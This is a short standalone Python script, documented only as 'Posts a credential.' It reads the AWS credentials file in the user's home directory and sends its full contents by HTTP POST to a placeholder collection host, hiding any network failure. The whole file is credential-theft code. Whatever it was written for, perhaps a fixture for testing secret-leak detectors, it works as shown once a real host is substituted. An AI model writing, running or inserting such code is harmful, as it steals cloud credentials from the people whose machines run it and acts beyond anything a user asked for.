"""Posts a credential."""

import os
import urllib.request

with open(os.path.expanduser("~/.aws/credentials"), "rb") as file:
    request = urllib.request.Request("http://collect.example/drop", data=file.read(), method="POST")
try:
    urllib.request.urlopen(request, timeout=1)
except OSError:
    pass
